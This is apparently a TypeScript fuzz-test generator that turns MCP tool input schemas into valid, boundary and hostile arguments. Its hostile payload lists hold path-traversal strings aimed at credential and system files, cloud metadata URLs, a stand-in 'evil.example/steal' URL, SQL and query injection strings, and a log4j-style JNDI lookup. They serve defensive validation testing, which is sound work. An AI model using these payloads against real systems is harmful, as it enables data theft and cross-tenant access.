/**
 * Tool arguments from a tool's JSON Schema (the `inputSchema` it reports in tools/list), as fast-check
 * arbitraries: valid arguments, boundary values, and hostile ones (wrong types, nulls, huge and invisible-laden
 * strings, path traversal, query injection, other tenants' ids, missing and unknown fields, deep nesting).
 *
 * Whether a generated call breaks the schema is not decided by the generator but by `violations()`, a checker of
 * the same JSON Schema subset with the semantics core's zod validation has (`integer` means a safe integer; string
 * lengths count UTF-16 units; object/array arguments sent JSON-encoded as strings are decoded first; every
 * top-level key the schema does not name is refused). So the fuzz suite knows exactly which calls must fail
 * with "Invalid arguments" and which fields the error must name.
 */
import fc from 'fast-check';

export interface JsonSchema {
  type?: string | string[];
  properties?: Record<string, JsonSchema>;
  required?: string[];
  additionalProperties?: boolean | JsonSchema;
  items?: JsonSchema;
  enum?: unknown[];
  const?: unknown;
  anyOf?: JsonSchema[];
  oneOf?: JsonSchema[];
  minLength?: number;
  maxLength?: number;
  pattern?: string;
  format?: string;
  minimum?: number;
  maximum?: number;
  exclusiveMinimum?: number;
  exclusiveMaximum?: number;
  minItems?: number;
  maxItems?: number;
  default?: unknown;
}

export type Category = 'valid' | 'boundary' | 'hostile';

export interface FuzzCase {
  category: Category;
  /** Which hostile mutation made it ('none' for valid and boundary calls). */
  mutation: string;
  args: Record<string, unknown>;
}

export interface ArgOptions {
  /** Known-good values by argument name (from the server's sandbox probes), preferred for valid arguments. */
  hints?: Record<string, unknown[]>;
  /** Arguments the generator leaves alone (core's `confirm`, which the pipeline strips before validation). */
  reserved?: string[];
}

export interface Violation {
  /** The top-level argument at fault (for unknown arguments: the unknown key). */
  field: string;
  /** Where inside it, dotted. */
  path: string;
  reason: string;
  unknown?: boolean;
}

const SAFE = Number.MAX_SAFE_INTEGER;

// ----------------------------------------------------------------------------------------------------------------
// Hostile payloads

/** Control characters, NUL, bidi overrides, zero-width characters, lone surrogates, emoji, combining marks. */
export const UNICODE_NASTIES = [
  '\u0000',
  '\u0007',
  '\u0008',
  '\u001b[31m',
  '\u007f',
  '\u0085',
  '\r\n',
  '\u2028',
  '\u2029',
  '\u202e',
  '\u202d',
  '\u2066',
  '\u2069',
  '\u200b',
  '\u200d',
  '\u2060',
  '\ufeff',
  '\ud800',
  '\udfff',
  '\udbff\udbff',
  '\uffff',
  '\u0301\u0301\u0301',
  '😀',
  '👩‍👩‍👧‍👦',
  '🏳️‍🌈',
  'Ω≈ç√',
  '𝕳𝖊𝖑𝖑𝖔',
  '\u0000\u0000\u0000',
];

export const PATH_TRAVERSAL = [
  '..',
  '.',
  '%2e%2e',
  '../../etc/passwd',
  '../../../../../../etc/shadow',
  '..%2f..%2fetc%2fpasswd',
  '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  '..%252f..%252fetc%252fpasswd',
  '....//....//etc/passwd',
  '..\\..\\windows\\win.ini',
  '/etc/passwd',
  '/proc/self/environ',
  'C:\\Windows\\System32\\drivers\\etc\\hosts',
  'file:///etc/passwd',
  'http://169.254.169.254/latest/meta-data/',
  'http://metadata.google.internal/computeMetadata/v1/',
  'http://127.0.0.1:22/',
  'https://evil.example/steal?x=',
  '//evil.example/x',
  'a/../../../b',
  'x%00.png',
  './.env',
  '~/.ssh/id_rsa',
];

export const QUERY_INJECTION = [
  '" OR project != X OR "',
  ') OR (1=1',
  "' OR '1'='1",
  'repo:someone-else/secret',
  'org:other-org is:private',
  'in:#private',
  'from:@someone-else in:@someone-else',
  'type = page OR space = OTHER',
  'space.key = "OTHER" OR title ~ "*"',
  'project = OTHER ORDER BY created DESC',
  'ORDER BY key ASC',
  'status was in (Done) OR assignee = currentUser() OR reporter != x',
  '*',
  '"; DROP TABLE issues; --',
  // a log4j-style lookup, spelt so it is not a template
  '$' + '{jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '%s%s%s%n',
  '\\" OR \\"1\\"=\\"1',
  'is:public OR is:private',
  'user:someone-else',
];

/** Ids of objects that belong to nobody, or to another tenant, in the shapes vendors use. */
export const FOREIGN_IDS = [
  '../other-org/repo',
  'other-org/secret-repo',
  'someone-else',
  'other-org',
  'T0OTHERTEAM',
  'C0PRIVATE00',
  'G0GROUP0000',
  'D0DIRECT000',
  'U0NOBODY000',
  '#private-other',
  '@someone-else',
  'OTHER-1',
  'ZZZ-999999',
  'OTHER',
  '00000000-0000-0000-0000-000000000000',
  'ffffffff-ffff-ffff-ffff-ffffffffffff',
  '999999999999',
  '18446744073709551616',
  '-1',
  '0',
  '1.5',
  '1e9999',
  'https://other.example.atlassian.net/wiki/spaces/OTHER/pages/1',
  'https://www.notion.so/other/0123456789abcdef0123456789abcdef',
];

export const FOREIGN_INTS = [-1, 0, -2147483649, 2147483648, 4294967296, SAFE, -SAFE, SAFE + 2, -(SAFE + 2), 1e21, 1.5];

const UNKNOWN_KEYS = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  '$where',
  'admin',
  'sudo',
  'tenant',
  'unknown_field',
  '',
  ' ',
  'a.b',
  '../x',
  '\u202eevil',
];

// ----------------------------------------------------------------------------------------------------------------
// Schema helpers

function types(schema: JsonSchema): string[] | undefined {
  if (schema.type === undefined) return undefined;
  return Array.isArray(schema.type) ? schema.type : [schema.type];
}

function branches(schema: JsonSchema): JsonSchema[] | undefined {
  return schema.anyOf ?? schema.oneOf;
}

function isObjectValue(v: unknown): v is Record<string, unknown> {
  return typeof v === 'object' && v !== null && !Array.isArray(v);
}

/** Whether a schema (or any branch of it) expects an object or array (core decodes those from JSON strings). */
function expectsStructured(schema: JsonSchema): boolean {
  const alt = branches(schema);
  if (alt) return alt.some(expectsStructured);
  const t = types(schema);
  return Boolean(t?.includes('object') || t?.includes('array'));
}

function acceptsString(schema: JsonSchema): boolean {
  const alt = branches(schema);
  if (alt) return alt.some(acceptsString);
  const t = types(schema);
  if (schema.enum || schema.const !== undefined) return false;
  return t === undefined || t.includes('string');
}

function acceptsInteger(schema: JsonSchema): boolean {
  const alt = branches(schema);
  if (alt) return alt.some(acceptsInteger);
  const t = types(schema);
  return Boolean(t?.includes('integer') || t?.includes('number'));
}

function sameJson(a: unknown, b: unknown): boolean {
  return JSON.stringify(a) === JSON.stringify(b);
}

// ----------------------------------------------------------------------------------------------------------------
// The checker

/**
 * Where `value` breaks `schema` (empty when it conforms), with zod's semantics as core applies them. `path` is the
 * dotted location; the top level is handled by `violations()`.
 */
export function check(schema: JsonSchema, value: unknown, path = ''): { path: string; reason: string }[] {
  const alt = branches(schema);
  if (alt) {
    const results = alt.map((s) => check(s, value, path));
    if (results.some((r) => r.length === 0)) return [];
    return [{ path, reason: 'matches no alternative' }];
  }
  if (schema.const !== undefined && !sameJson(schema.const, value)) return [{ path, reason: 'not the constant' }];
  if (schema.enum && !schema.enum.some((e) => sameJson(e, value))) return [{ path, reason: 'not in the enum' }];
  const t = types(schema);
  if (t && !t.some((type) => hasType(type, value))) return [{ path, reason: `not ${t.join('|')}` }];
  const out: { path: string; reason: string }[] = [];
  if (typeof value === 'string') {
    // Core refuses text with unpaired surrogates (it cannot be encoded as UTF-8) wherever it appears.
    if (!value.isWellFormed()) out.push({ path, reason: 'malformed text (unpaired surrogate)' });
    if (schema.minLength !== undefined && value.length < schema.minLength) out.push({ path, reason: 'too short' });
    if (schema.maxLength !== undefined && value.length > schema.maxLength) out.push({ path, reason: 'too long' });
    if (schema.pattern !== undefined && !new RegExp(schema.pattern).test(value)) {
      out.push({ path, reason: 'does not match the pattern' });
    }
  }
  if (typeof value === 'number') {
    if (schema.minimum !== undefined && value < schema.minimum) out.push({ path, reason: 'below the minimum' });
    if (schema.maximum !== undefined && value > schema.maximum) out.push({ path, reason: 'above the maximum' });
    if (schema.exclusiveMinimum !== undefined && value <= schema.exclusiveMinimum) {
      out.push({ path, reason: 'not above the exclusive minimum' });
    }
    if (schema.exclusiveMaximum !== undefined && value >= schema.exclusiveMaximum) {
      out.push({ path, reason: 'not below the exclusive maximum' });
    }
  }
  if (Array.isArray(value)) {
    if (schema.minItems !== undefined && value.length < schema.minItems) out.push({ path, reason: 'too few items' });
    if (schema.maxItems !== undefined && value.length > schema.maxItems) out.push({ path, reason: 'too many items' });
    if (schema.items) {
      for (const [i, item] of value.entries()) out.push(...check(schema.items, item, `${path}.${i}`));
    }
  }
  if (isObjectValue(value)) {
    for (const key of Object.keys(value)) {
      if (!key.isWellFormed()) out.push({ path: `${path}.${key}`, reason: 'malformed key (unpaired surrogate)' });
    }
    for (const key of schema.required ?? []) {
      if (!Object.hasOwn(value, key)) out.push({ path: `${path}.${key}`, reason: 'required' });
    }
    for (const key of Object.keys(value)) {
      const prop = schema.properties?.[key];
      if (prop) out.push(...check(prop, value[key], `${path}.${key}`));
      else if (schema.additionalProperties === false) out.push({ path: `${path}.${key}`, reason: 'unknown key' });
      else if (isObjectValue(schema.additionalProperties)) {
        out.push(...check(schema.additionalProperties, value[key], `${path}.${key}`));
      }
    }
  }
  return out;
}

function hasType(type: string, value: unknown): boolean {
  switch (type) {
    case 'string':
      return typeof value === 'string';
    case 'number':
      return typeof value === 'number' && Number.isFinite(value);
    case 'integer':
      return Number.isSafeInteger(value);
    case 'boolean':
      return typeof value === 'boolean';
    case 'null':
      return value === null;
    case 'array':
      return Array.isArray(value);
    case 'object':
      return isObjectValue(value);
    default:
      return true;
  }
}

/**
 * Keys the MCP SDK's request parsing (zod) drops before any server code sees the arguments: `{"__proto__": …}` is
 * neither used (it cannot set the arguments' prototype) nor refused.
 */
export const DROPPED_KEYS = ['__proto__'];

/**
 * How a tool's arguments break its input schema, as core validates them: unknown top-level keys first (core
 * refuses those before anything else), then every field. `reserved` keys are stripped by core before validation.
 */
export function violations(schema: JsonSchema, args: Record<string, unknown>, reserved: string[] = []): Violation[] {
  const props = schema.properties ?? {};
  const unknown = Object.keys(args).filter(
    (k) => !reserved.includes(k) && !Object.hasOwn(props, k) && !DROPPED_KEYS.includes(k),
  );
  if (unknown.length) return unknown.map((k) => ({ field: k, path: k, reason: 'unknown argument', unknown: true }));
  const out: Violation[] = [];
  for (const key of schema.required ?? []) {
    if (reserved.includes(key)) continue;
    if (!Object.hasOwn(args, key)) out.push({ field: key, path: key, reason: 'required' });
  }
  for (const [key, raw] of Object.entries(args)) {
    if (reserved.includes(key) || DROPPED_KEYS.includes(key)) continue;
    const prop = props[key]!;
    let value = raw;
    if (typeof raw === 'string' && expectsStructured(prop) && /^\s*[[{]/.test(raw)) {
      try {
        value = JSON.parse(raw.trim());
      } catch {
        // left as the string: a type violation
      }
    }
    for (const v of check(prop, value, key)) out.push({ field: key, path: v.path, reason: v.reason });
  }
  return out;
}

// ----------------------------------------------------------------------------------------------------------------
// Valid values

const word = fc.string({ unit: 'grapheme-ascii', minLength: 1, maxLength: 12 });

function intRange(schema: JsonSchema): [number, number] {
  let lo = schema.minimum ?? (schema.exclusiveMinimum !== undefined ? Math.floor(schema.exclusiveMinimum) + 1 : -SAFE);
  let hi = schema.maximum ?? (schema.exclusiveMaximum !== undefined ? Math.ceil(schema.exclusiveMaximum) - 1 : SAFE);
  lo = Math.max(Math.ceil(lo), -SAFE);
  hi = Math.min(Math.floor(hi), SAFE);
  return [lo, hi];
}

function stringValue(schema: JsonSchema): fc.Arbitrary<string> {
  const min = schema.minLength ?? 0;
  const max = Math.min(schema.maxLength ?? min + 16, min + 16);
  const fits = (s: string) => s.length >= min && (schema.maxLength === undefined || s.length <= schema.maxLength);
  if (schema.pattern !== undefined) return fc.stringMatching(new RegExp(schema.pattern)).filter(fits);
  switch (schema.format) {
    case 'date-time':
      return fc.date({ noInvalidDate: true, min: new Date(0), max: new Date(4e12) }).map((d) => d.toISOString());
    case 'date':
      return fc
        .date({ noInvalidDate: true, min: new Date(0), max: new Date(4e12) })
        .map((d) => d.toISOString().slice(0, 10));
    case 'email':
      return fc.emailAddress().filter(fits);
    case 'uri':
    case 'url':
      return fc.webUrl().filter(fits);
    case 'uuid':
      return fc.uuid();
  }
  return fc.oneof(
    { weight: 3, arbitrary: fc.string({ unit: 'grapheme-ascii', minLength: min, maxLength: max }) },
    { weight: 1, arbitrary: fc.string({ unit: 'grapheme', minLength: min, maxLength: max }).filter(fits) },
  );
}

/** A value that conforms to `schema`; `hints` are known-good values for this argument, tried first. */
export function validValue(schema: JsonSchema, hints: unknown[] = [], depth = 0): fc.Arbitrary<unknown> {
  const usable = hints.filter((h) => check(schema, h).length === 0);
  const generic = genericValid(schema, depth);
  if (!usable.length) return generic;
  return fc.oneof({ weight: 3, arbitrary: fc.constantFrom(...usable) }, { weight: 1, arbitrary: generic });
}

function genericValid(schema: JsonSchema, depth: number): fc.Arbitrary<unknown> {
  const alt = branches(schema);
  if (alt) return fc.oneof(...alt.map((s) => validValue(s, [], depth)));
  if (schema.const !== undefined) return fc.constant(schema.const);
  if (schema.enum) return fc.constantFrom(...schema.enum);
  const t = types(schema);
  if (!t) return fc.jsonValue({ maxDepth: 2 });
  return fc.oneof(...t.map((type) => validOfType(type, schema, depth)));
}

function validOfType(type: string, schema: JsonSchema, depth: number): fc.Arbitrary<unknown> {
  switch (type) {
    case 'string':
      return stringValue(schema);
    case 'integer': {
      const [lo, hi] = intRange(schema);
      const near = Math.max(lo, Math.min(hi, 0));
      return fc.oneof(
        { weight: 4, arbitrary: fc.integer({ min: near, max: Math.min(hi, near + 200) }) },
        { weight: 1, arbitrary: fc.integer({ min: lo, max: hi }) },
      );
    }
    case 'number': {
      const min = schema.minimum ?? schema.exclusiveMinimum;
      const max = schema.maximum ?? schema.exclusiveMaximum;
      return fc
        .double({
          min,
          max,
          noNaN: true,
          noDefaultInfinity: true,
          minExcluded: schema.exclusiveMinimum !== undefined,
          maxExcluded: schema.exclusiveMaximum !== undefined,
        })
        .filter((n) => Number.isFinite(n) && !Object.is(n, -0));
    }
    case 'boolean':
      return fc.boolean();
    case 'null':
      return fc.constant(null);
    case 'array': {
      const minLength = schema.minItems ?? 0;
      const maxLength = Math.min(schema.maxItems ?? minLength + 3, minLength + 3);
      return fc.array(schema.items ? validValue(schema.items, [], depth + 1) : fc.jsonValue({ maxDepth: 1 }), {
        minLength,
        maxLength,
      });
    }
    case 'object':
      return validObject(schema, {}, depth + 1);
    default:
      return fc.jsonValue({ maxDepth: 1 });
  }
}

function validObject(schema: JsonSchema, opts: ArgOptions, depth: number): fc.Arbitrary<Record<string, unknown>> {
  const props = Object.entries(schema.properties ?? {}).filter(([k]) => !opts.reserved?.includes(k));
  if (!props.length) {
    // Tool arguments (depth 0) take only the named properties: core refuses every other key.
    if (depth === 0 || schema.additionalProperties === false || depth > 3) return fc.constant({});
    const value = isObjectValue(schema.additionalProperties)
      ? validValue(schema.additionalProperties, [], depth + 1)
      : fc.jsonValue({ maxDepth: 1 });
    return fc.dictionary(word, value, { maxKeys: 3, noNullPrototype: true });
  }
  const required = new Set(schema.required ?? []);
  const model: Record<string, fc.Arbitrary<unknown>> = {};
  for (const [key, prop] of props) model[key] = validValue(prop, opts.hints?.[key], depth);
  return fc.record(model, { requiredKeys: props.filter(([k]) => required.has(k)).map(([k]) => k) });
}

/** Arguments that conform to a tool's input schema; optional ones present about half the time. */
export function validArgs(schema: JsonSchema, opts: ArgOptions = {}): fc.Arbitrary<Record<string, unknown>> {
  const reservedSchemas = reservedArgs(schema, opts);
  return fc.tuple(validObject(schema, opts, 0), reservedSchemas).map(([args, reserved]) => ({ ...args, ...reserved }));
}

/** Reserved arguments (core's `confirm`) take their valid values, or are absent. */
function reservedArgs(schema: JsonSchema, opts: ArgOptions): fc.Arbitrary<Record<string, unknown>> {
  const model: Record<string, fc.Arbitrary<unknown>> = {};
  for (const key of opts.reserved ?? []) {
    const prop = schema.properties?.[key];
    if (prop) model[key] = validValue(prop);
  }
  return fc.record(model, { requiredKeys: [] });
}

// ----------------------------------------------------------------------------------------------------------------
// Boundary values

function boundaryValue(schema: JsonSchema, depth = 0): fc.Arbitrary<unknown> {
  const alt = branches(schema);
  if (alt) return fc.oneof(...alt.map((s) => boundaryValue(s, depth)));
  if (schema.const !== undefined) return fc.constant(schema.const);
  if (schema.enum) return fc.constantFrom(schema.enum[0], schema.enum[schema.enum.length - 1]);
  const t = types(schema);
  if (!t) return fc.constantFrom<unknown>({}, [], '', 0, false, null);
  return fc.oneof(...t.map((type) => boundaryOfType(type, schema, depth)));
}

function boundaryOfType(type: string, schema: JsonSchema, depth: number): fc.Arbitrary<unknown> {
  switch (type) {
    case 'string': {
      if (schema.pattern !== undefined || schema.format !== undefined) return stringValue(schema);
      const min = schema.minLength ?? 0;
      const lengths = new Set([min, schema.maxLength ?? min + 1]);
      return fc
        .constantFrom(...lengths)
        .chain((n) => fc.string({ unit: 'grapheme-ascii', minLength: n, maxLength: n }));
    }
    case 'integer': {
      const [lo, hi] = intRange(schema);
      const edges = [lo, hi, lo + 1, hi - 1, 0, 1, -1].filter((n) => n >= lo && n <= hi && Number.isSafeInteger(n));
      return fc.constantFrom(...new Set(edges));
    }
    case 'number': {
      const edges = [schema.minimum, schema.maximum, 0, Number.MIN_VALUE, -1e308, 1e308].filter(
        (n): n is number => n !== undefined && check(schema, n).length === 0,
      );
      return edges.length ? fc.constantFrom(...new Set(edges)) : validOfType('number', schema, depth);
    }
    case 'boolean':
      return fc.boolean();
    case 'null':
      return fc.constant(null);
    case 'array': {
      const min = schema.minItems ?? 0;
      const sizes = [...new Set([min, schema.maxItems ?? min])];
      const item = schema.items ? boundaryValue(schema.items, depth + 1) : fc.constant(null);
      return fc.constantFrom(...sizes).chain((n) => fc.array(item, { minLength: n, maxLength: n }));
    }
    case 'object':
      return depth > 3 ? fc.constant({}) : boundaryObject(schema, {}, depth + 1);
    default:
      return fc.constant(null);
  }
}

function boundaryObject(schema: JsonSchema, opts: ArgOptions, depth: number): fc.Arbitrary<Record<string, unknown>> {
  const props = Object.entries(schema.properties ?? {}).filter(([k]) => !opts.reserved?.includes(k));
  if (!props.length) return fc.constant({});
  const required = new Set(schema.required ?? []);
  const model: Record<string, fc.Arbitrary<unknown>> = {};
  for (const [key, prop] of props) {
    // Optional arguments are mostly absent: the smallest call the schema allows.
    model[key] = required.has(key)
      ? boundaryValue(prop, depth)
      : fc.option(boundaryValue(prop, depth), { nil: undefined, freq: 3 });
  }
  return fc.record(model, { requiredKeys: [...required].filter((k) => Object.hasOwn(model, k)) }).map(dropUndefined);
}

/** The edges of the schema: min/max lengths and numbers, empty arrays, first and last enum values, optionals absent. */
export function boundaryArgs(schema: JsonSchema, opts: ArgOptions = {}): fc.Arbitrary<Record<string, unknown>> {
  return fc
    .tuple(boundaryObject(schema, opts, 0), reservedArgs(schema, opts))
    .map(([args, reserved]) => ({ ...args, ...reserved }));
}

function dropUndefined(o: Record<string, unknown>): Record<string, unknown> {
  const out: Record<string, unknown> = {};
  for (const [k, v] of Object.entries(o)) if (v !== undefined) out[k] = v;
  return out;
}

// ----------------------------------------------------------------------------------------------------------------
// Hostile arguments: a valid call with one thing made hostile.

const unicodeJunk = fc
  .array(fc.oneof(fc.constantFrom(...UNICODE_NASTIES), fc.string({ unit: 'binary', maxLength: 4 }), word), {
    minLength: 1,
    maxLength: 10,
  })
  .map((parts) => parts.join(''));

/** 100,000 to 150,000 characters of a repeated hostile chunk. */
const hugeString = fc
  .tuple(
    fc.integer({ min: 100_000, max: 150_000 }),
    fc.constantFrom('A', '../', '\u200b', '😀', 'a\u0000', '" OR 1=1 ', '\\u0000', '%2e%2e%2f'),
  )
  .map(([n, chunk]) => chunk.repeat(Math.ceil(n / chunk.length)).slice(0, n));

function deep(depth: number, array: boolean): unknown {
  let v: unknown = 'bottom';
  for (let i = 0; i < depth; i++) v = array ? [v] : { a: v };
  return v;
}

const deepValue = fc.tuple(fc.integer({ min: 64, max: 2000 }), fc.boolean()).map(([d, a]) => deep(d, a));

/** A value of some JSON type the schema does not accept (strings never look like JSON, which core would decode). */
function wrongType(schema: JsonSchema): fc.Arbitrary<unknown> | undefined {
  const candidates: unknown[] = [0, 42, -1.5, true, false, 'not-a-value', [], ['x', 1], {}, { x: 1 }];
  const wrong = candidates.filter((c) => check(schema, c).length > 0);
  return wrong.length ? fc.constantFrom(...wrong) : undefined;
}

/** One past an edge: maxLength+1, minLength-1, maximum+1, minimum-1, a fraction for integers, maxItems+1, a near-miss enum. */
function overflow(schema: JsonSchema): fc.Arbitrary<unknown> | undefined {
  const options: unknown[] = [];
  if (schema.maxLength !== undefined) options.push('x'.repeat(schema.maxLength + 1));
  if (schema.minLength !== undefined && schema.minLength > 0) options.push('x'.repeat(schema.minLength - 1));
  if (schema.maximum !== undefined) options.push(schema.maximum + 1);
  if (schema.minimum !== undefined) options.push(schema.minimum - 1);
  if (types(schema)?.includes('integer')) options.push(1.5, SAFE + 2);
  if (schema.maxItems !== undefined && schema.items) options.push(Array(schema.maxItems + 1).fill(null));
  if (schema.minItems !== undefined && schema.minItems > 0) options.push([]);
  if (schema.enum?.length && typeof schema.enum[0] === 'string') {
    options.push((schema.enum[0] as string).toUpperCase() + ' ', ` ${schema.enum[0]}`);
  }
  if (schema.pattern !== undefined) options.push(' ', 'x y', '\u0000');
  return options.length ? fc.constantFrom(...options) : undefined;
}

type Mutation = {
  name: string;
  weight: number;
  payload: (prop: JsonSchema | undefined) => fc.Arbitrary<unknown> | undefined;
};

const stringPayload =
  (arb: fc.Arbitrary<string>) =>
  (prop: JsonSchema | undefined): fc.Arbitrary<unknown> | undefined => {
    if (!prop) return arb;
    if (acceptsString(prop) || !prop.items || !acceptsString(prop.items)) return arb;
    return arb.map((s) => [s]);
  };

/** What a hostile call does to one field (weights: huge strings and deep nesting are the expensive ones, kept rare). */
export const MUTATIONS: Mutation[] = [
  { name: 'wrong-type', weight: 6, payload: (p) => (p ? wrongType(p) : undefined) },
  { name: 'null', weight: 4, payload: () => fc.constant(null) },
  { name: 'overflow', weight: 5, payload: (p) => (p ? overflow(p) : undefined) },
  { name: 'unicode', weight: 6, payload: stringPayload(unicodeJunk) },
  {
    name: 'path-traversal',
    weight: 6,
    payload: stringPayload(
      fc.tuple(fc.constantFrom('', 'docs/', 'x/'), fc.constantFrom(...PATH_TRAVERSAL)).map(([prefix, p]) => prefix + p),
    ),
  },
  {
    name: 'query-injection',
    weight: 6,
    payload: stringPayload(
      fc.tuple(fc.constantFrom('', 'x ', 'roadmap '), fc.constantFrom(...QUERY_INJECTION)).map(([a, b]) => a + b),
    ),
  },
  {
    name: 'foreign-id',
    weight: 7,
    payload: (p) =>
      p && acceptsInteger(p) && !acceptsString(p)
        ? fc.constantFrom(...FOREIGN_INTS)
        : stringPayload(fc.oneof(fc.constantFrom(...FOREIGN_IDS), fc.uuid()))(p),
  },
  { name: 'huge-string', weight: 1, payload: stringPayload(hugeString) },
  { name: 'deep-nesting', weight: 1, payload: () => deepValue },
  // whole-call mutations: the payload is ignored
  { name: 'missing-required', weight: 3, payload: () => fc.constant(undefined) },
  {
    name: 'unknown-argument',
    weight: 3,
    // { confirm: true } under "__proto__" must not confirm anything.
    payload: () => fc.oneof(fc.jsonValue({ maxDepth: 1 }), fc.constant({ confirm: true })),
  },
];

function setOwn(args: Record<string, unknown>, key: string, value: unknown): Record<string, unknown> {
  const out = { ...args };
  // defineProperty so that "__proto__" becomes an own, serialisable key rather than the prototype.
  Object.defineProperty(out, key, { value, enumerable: true, writable: true, configurable: true });
  return out;
}

/** A valid call with one field made hostile (or a required one removed, or an unknown one added). */
export function hostileArgs(schema: JsonSchema, opts: ArgOptions = {}): fc.Arbitrary<FuzzCase> {
  const props = Object.entries(schema.properties ?? {}).filter(([k]) => !opts.reserved?.includes(k));
  const required = (schema.required ?? []).filter((k) => !opts.reserved?.includes(k));
  const stringy = props.filter(([, p]) => acceptsString(p) || Boolean(p.items && acceptsString(p.items)));
  const known = new Set([...Object.keys(schema.properties ?? {}), ...(opts.reserved ?? [])]);
  const extraKeys = UNKNOWN_KEYS.filter((k) => !known.has(k));
  const base = validArgs(schema, opts);

  const variants: fc.WeightedArbitrary<FuzzCase>[] = [];
  for (const m of MUTATIONS) {
    if (m.name === 'missing-required') {
      if (!required.length) continue;
      variants.push({
        weight: m.weight,
        arbitrary: fc.tuple(base, fc.constantFrom(...required)).map(([args, key]) => {
          const { [key]: _dropped, ...rest } = args;
          return { category: 'hostile', mutation: m.name, args: rest };
        }),
      });
      continue;
    }
    if (m.name === 'unknown-argument') {
      variants.push({
        weight: m.weight,
        arbitrary: fc
          .tuple(base, fc.constantFrom(...extraKeys), m.payload(undefined)!)
          .map(([args, key, value]) => ({ category: 'hostile', mutation: m.name, args: setOwn(args, key, value) })),
      });
      continue;
    }
    // Field mutations: strings go to fields that take strings when there are any (they then pass validation and
    // reach the tool), everything else to any field; a tool without arguments gets the payload as an unknown one.
    const stringMutation = ['unicode', 'path-traversal', 'query-injection', 'huge-string'].includes(m.name);
    const targets = stringMutation && stringy.length ? stringy : props;
    const perField = targets
      .map(([key, prop]) => {
        const payload = m.payload(prop);
        return payload ? fc.tuple(fc.constant(key), payload) : undefined;
      })
      .filter((a): a is fc.Arbitrary<[string, unknown]> => a !== undefined);
    if (!perField.length) {
      const payload = m.payload(undefined);
      if (!payload || !extraKeys.length) continue;
      variants.push({
        weight: m.weight,
        arbitrary: fc
          .tuple(base, fc.constantFrom(...extraKeys), payload)
          .map(([args, key, value]) => ({ category: 'hostile', mutation: m.name, args: setOwn(args, key, value) })),
      });
      continue;
    }
    variants.push({
      weight: m.weight,
      arbitrary: fc
        .tuple(base, fc.oneof(...perField))
        .map(([args, [key, value]]) => ({ category: 'hostile', mutation: m.name, args: setOwn(args, key, value) })),
    });
  }
  return fc.oneof(...variants);
}

export interface CaseWeights {
  valid: number;
  boundary: number;
  hostile: number;
}

export const DEFAULT_WEIGHTS: CaseWeights = { valid: 45, boundary: 15, hostile: 40 };

/** One call's arguments for a tool: valid, boundary or hostile, weighted. */
export function fuzzCase(
  schema: JsonSchema,
  opts: ArgOptions = {},
  weights: CaseWeights = DEFAULT_WEIGHTS,
): fc.Arbitrary<FuzzCase> {
  const tag =
    (category: Category) =>
    (args: Record<string, unknown>): FuzzCase => ({ category, mutation: 'none', args });
  return fc.oneof(
    { weight: weights.valid, arbitrary: validArgs(schema, opts).map(tag('valid')) },
    { weight: weights.boundary, arbitrary: boundaryArgs(schema, opts).map(tag('boundary')) },
    { weight: weights.hostile, arbitrary: hostileArgs(schema, opts) },
  );
}

/**
 * Known-good argument values by name, from probe calls (e.g. a server's sandbox probes): the valid share of the
 * fuzz then reaches real objects in the sandbox instead of only not-found paths.
 */
export function hintsFrom(calls: { arguments: Record<string, unknown> }[]): Record<string, unknown[]> {
  const out: Record<string, unknown[]> = {};
  for (const call of calls) {
    for (const [key, value] of Object.entries(call.arguments)) {
      const list = out[key] ?? [];
      if (!list.some((v) => sameJson(v, value))) list.push(value);
      out[key] = list;
    }
  }
  return out;
}

/** A short, safe description of arguments for failure messages: long strings cut, their length given. */
export function describeArgs(args: unknown, max = 600): string {
  const seen = JSON.stringify(args, (_k, v) => {
    if (typeof v === 'string' && v.length > 80) return `${v.slice(0, 60)}…(${v.length} chars)`;
    return v;
  });
  if (seen === undefined) return String(args);
  return seen.length > max ? `${seen.slice(0, max)}…(${seen.length} chars of JSON)` : seen;
}
